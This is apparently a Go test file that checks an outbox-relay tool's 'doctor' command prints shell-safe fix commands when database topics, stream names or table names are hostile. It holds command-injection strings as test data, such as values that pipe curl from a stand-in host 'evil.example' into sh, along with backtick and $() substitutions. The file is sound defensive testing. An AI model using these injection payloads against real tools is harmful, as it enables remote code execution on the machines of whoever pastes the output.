package main

import (
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/jackc/pgx/v5"

	"github.com/outbox-relay/outbox-relay/e2e/testbed/pgtest"
)

// stubs is a directory with programs that note their arguments, and one that notes
// that it was run at all.
func stubs(t *testing.T) (dir string) {
	t.Helper()
	dir = t.TempDir()
	for name, script := range map[string]string{
		"nats": `for word in "$@"; do printf '%s\n' "$word" >>"$DIR/words"; done`,
		"curl": `touch "$DIR/harmed"`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("#!/bin/sh\n"+script+"\n"), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// paste runs what doctor printed as a person would paste it into a shell.
func paste(t *testing.T, dir, text string) {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), "sh", "-c", text)
	cmd.Env = []string{"PATH=" + dir + ":" + os.Getenv("PATH"), "DIR=" + dir}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("%s: %v\n%s", text, err, out)
	}
	if _, err := os.Stat(filepath.Join(dir, "harmed")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("%s: something of the topic was run (%v)", text, err)
	}
}

// Topics are written by whoever may insert into the table, and what doctor prints
// is pasted by whoever may do more.
func TestTopicIsPrintedHarmless(t *testing.T) {
	t.Parallel()
	p := newPatient(t)
	for _, topic := range []string{"x';curl${IFS}evil.example|sh;'", "`curl`.a", "$(curl)", "a\x1b[2Jb", "x'; curl evil.example | sh; echo '", "b\ncurl"} {
		conn := pgtest.Connect(t, p.url)
		if _, err := conn.Exec(t.Context(), "INSERT INTO outbox (topic, payload) VALUES ($1, '1')", topic); err != nil {
			t.Fatal(err)
		}
		_ = conn.Close(t.Context())
	}
	dir := stubs(t)
	fixes := 0
	for _, c := range p.doctor().Checks {
		if strings.ContainsFunc(c.Name+c.Found+strings.Join(c.Fix, ""), unicode.IsControl) {
			t.Errorf("control characters in %+v", c)
		}
		for _, line := range c.Fix {
			if strings.HasPrefix(line, "nats ") {
				fixes++
				paste(t, dir, line)
			}
		}
	}
	words, err := os.ReadFile(filepath.Join(dir, "words"))
	if err != nil || fixes == 0 {
		t.Fatalf("%d fixes, %v", fixes, err)
	}
	for _, subject := range []string{"--subjects=x';curl${IFS}evil", "--subjects=`curl`"} {
		if !strings.Contains(string(words), subject) {
			t.Errorf("no word %q in\n%s", subject, words)
		}
	}
	got := do(t, p.environ(), "doctor")
	if strings.ContainsFunc(got.stdout, func(r rune) bool { return unicode.IsControl(r) && r != '\n' }) {
		t.Errorf("control characters in %q", got.stdout)
	}
}

// Names of streams come from the broker, of tables from the database.
func TestNamesOfOthersArePrintedHarmless(t *testing.T) {
	t.Parallel()
	p := newPatient(t)
	dir := stubs(t)
	stream := streamConfig()
	stream.Name, stream.NoAck = "x';curl${IFS}evil;'", true
	if _, err := p.js().CreateStream(t.Context(), stream); err != nil {
		t.Fatal(err)
	}
	p.sql("INSERT INTO outbox (topic, payload) VALUES ('orders.created', '1')")
	d := p.doctor()
	for _, line := range p.find(d, "stream "+stream.Name).Fix {
		paste(t, dir, line)
	}
	if words, err := os.ReadFile(filepath.Join(dir, "words")); err != nil || !strings.Contains(string(words), "\n"+stream.Name+"\n") {
		t.Errorf("the words were %q (%v)", words, err)
	}

	table := "OUTBOX$(curl)'; curl evil | sh; echo '"
	p.sql("ALTER TABLE outbox RENAME TO " + pgx.Identifier{table}.Sanitize())
	p.env["OUTBOX_TABLE"] = `"` + strings.ToLower(table) + `"`
	got := do(t, p.environ(), "doctor")
	if strings.ContainsFunc(got.stdout, func(r rune) bool { return unicode.IsControl(r) && r != '\n' }) || got.status == 0 {
		t.Errorf("%+v", got)
	}
	if !strings.Contains(got.stdout, "  set OUTBOX_TABLE=") {
		t.Errorf("the other table is not named: %+v", got)
	}
	for line := range strings.Lines(got.stdout) {
		if fix, found := strings.CutPrefix(strings.TrimSpace(line), "set "); found {
			paste(t, dir, fix)
		}
	}
}
